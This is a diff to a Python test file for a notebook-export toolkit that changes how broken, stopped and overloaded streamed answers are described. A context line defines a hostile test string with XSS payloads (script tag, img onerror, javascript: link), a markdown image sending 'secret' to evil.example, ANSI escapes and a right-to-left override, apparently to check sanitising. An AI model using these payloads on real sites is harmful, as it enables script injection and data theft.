@@ -12,7 +12,7 @@ from nbkit.conversation.tools import ToolCall
 from nbkit.conversation.turns import Conversation
 from nbkit.errors import ApiKeyNotFoundError, BadRequestError, RateLimitError, StreamError
 from nbkit.notebook.export import write_bundle
-from nbkit.notebook.facts import explain_error, list_facts, list_notes
+from nbkit.notebook.facts import describe_end, explain_error, list_facts, list_notes
 
 HOSTILE = """<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3))
 ![leak](https://evil.example/?q=secret) \x1b[31mred\x1b[0m \u202egnp
@@ -121,8 +121,11 @@ def test_a_broken_or_stopped_answer_is_shown_as_far_as_it_arrived():
     for form, text in write_bundle([pane(broken), pane(stopped)], "").items():
         assert text.count("Half an ans") == 2, form
         assert text.count("cost ≈ $0.00012") == 2
-        assert "Failed: the stream ended early" in text
+        assert "Failed: The answer broke off." in text
         assert "stopped by you" in text
+    assert describe_end(broken)["cause"] == "the stream ended early"
+    overloaded = Answer("Hi", "failed", half, StreamError("overloaded", code="529", partial=half))
+    assert (explain_error(overloaded)[0], describe_end(overloaded)["cause"]) == ("overloaded (code 529)", "")
 
 
 def test_changes_endings_and_reasoning_are_shown():
